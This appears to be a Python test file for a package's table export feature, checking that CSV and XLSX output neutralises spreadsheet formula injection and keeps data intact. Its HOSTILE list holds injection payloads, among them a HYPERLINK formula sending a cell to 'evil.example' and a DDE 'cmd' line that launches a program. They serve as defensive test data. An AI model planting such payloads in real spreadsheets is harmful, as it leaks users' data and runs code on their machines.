"""Tables that are taken away: nothing in them runs when somebody opens them, and nothing is lost."""

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plumbline.kit.errors import Invalid
from plumbline.kit.exports import Cell, ExportFormat, export, format_of

HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",  # full-width signs start a formula where the spreadsheet speaks Japanese
    "＋1",
    "－1",
    "＠SUM(1)",
    "https://evil.example/",
    "mailto:x@evil.example",
    "{=1+1}",
    'a","=1+1',
    "a\r\n=1+1,b",
    "a\x01b",
    "_x0041_",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20)
SPITEFUL = st.one_of(st.sampled_from(HOSTILE), st.builds(str.__add__, st.sampled_from(STARTS), TEXT), TEXT)


def _csv(*cells: Cell, columns: list[str] | None = None) -> list[list[str]]:
    raw = export(ExportFormat.CSV, "Table", columns or [f"c{n}" for n in range(len(cells))], [cells])
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True))


def _xlsx(*cells: Cell, name: str = "Table", columns: list[str] | None = None) -> Any:
    raw = export(ExportFormat.XLSX, name, columns or [f"c{n}" for n in range(len(cells))], [cells])
    return openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0]


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(cell: str) -> None:
    """Every text is a string, in the heading too; openpyxl would call a formula `f`."""
    sheet = _xlsx(cell, columns=[cell])
    for found in (sheet["A1"], sheet["A2"]):
        assert found.data_type == "s"
        assert found.hyperlink is None


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_of_a_csv_starts_like_a_formula(cell: str) -> None:
    """An apostrophe stands before it, which can be taken off again: nothing is lost."""
    heading, row = _csv(cell, columns=[cell])
    for (found,) in (heading, row):
        assert not found.startswith(STARTS)
        assert found == (f"'{cell}" if cell.startswith(STARTS) else cell)


@given(st.lists(SPITEFUL, min_size=1, max_size=4))
@settings(max_examples=60)
def test_any_text_comes_back_from_csv_in_its_own_cell(cells: list[str]) -> None:
    """Quotes, commas and line ends in a cell start neither a new cell nor a new row."""
    heading, *rows = _csv(*cells)
    assert len(heading) == len(cells)
    (row,) = rows
    assert [found.removeprefix("'") for found in row] == [cell.removeprefix("'") for cell in cells]
    assert not any(found.startswith(STARTS) for found in row)


@given(st.lists(SPITEFUL, min_size=1, max_size=4))
@settings(max_examples=40)
def test_any_text_can_be_opened_as_a_workbook(cells: list[str]) -> None:
    """Control characters and all; a cell is a string, or empty."""
    sheet = _xlsx(*cells)
    assert sheet.max_row <= 2
    kinds = {
        found.data_type for row in sheet.iter_rows(min_row=2) for found in row if found.value is not None
    }
    assert kinds <= {"s"}


@given(st.lists(SPITEFUL, min_size=1, max_size=4))
@settings(max_examples=60)
def test_json_is_the_text_itself(cells: list[str]) -> None:
    """A program that reads JSON runs no formulas: nothing is put before anything."""
    columns = [f"c{number}" for number in range(len(cells))]
    raw = export(ExportFormat.JSON, "Table", columns, [cells])
    assert json.loads(raw) == [dict(zip(columns, cells, strict=True))]


def test_printable_text_is_unchanged_in_a_workbook() -> None:
    """What a person wrote is what a person reads, escapes that only look like ours included."""
    words = ["Zoë & Söhne <Ltd>", "a,b;c", 'she said "no"', "_x0041_", "line one\nline two", "=1+1"]
    assert [found.value for found in _xlsx(*words)[2]] == words


def test_numbers_stay_numbers_and_a_minus_is_no_formula() -> None:
    """A negative figure is a number: it gets no apostrophe, and a workbook can add it up."""
    cells: list[Cell] = [-5, -0.25, Decimal("-1.50"), True, None, date(2026, 11, 23)]
    assert _csv(*cells)[1] == ["-5", "-0.25", "-1.50", "True", "", "2026-11-23"]
    found = [(cell.data_type, cell.value) for cell in _xlsx(*cells)[2]]
    assert found == [("n", -5), ("n", -0.25), ("n", -1.5), ("b", True), ("n", None), ("s", "2026-11-23")]


def test_a_moment_has_its_time_and_zone() -> None:
    """As ISO 8601, in every format alike."""
    moment = datetime(2026, 11, 23, 12, 30, tzinfo=UTC)
    assert _xlsx(moment)["A2"].value == "2026-11-23T12:30:00+00:00"


@pytest.mark.parametrize("name", ["=1+1", "a/b:c", "x" * 80, "", "[]", "'quoted'"])
def test_a_sheet_always_has_a_name_that_spreadsheets_take(name: str) -> None:
    """Whatever the table is called."""
    title = _xlsx("cell", name=name).title
    assert 0 < len(title) <= 31
    assert not set(title) & set("[]:*?/\\'")


def test_a_format_that_is_none_is_named() -> None:
    """With the formats there are."""
    with pytest.raises(Invalid, match="'pdf'") as refused:
        format_of("pdf")
    assert refused.value.problems[0].pointer == "/format"
    assert refused.value.next_step == "Use csv, xlsx, json."
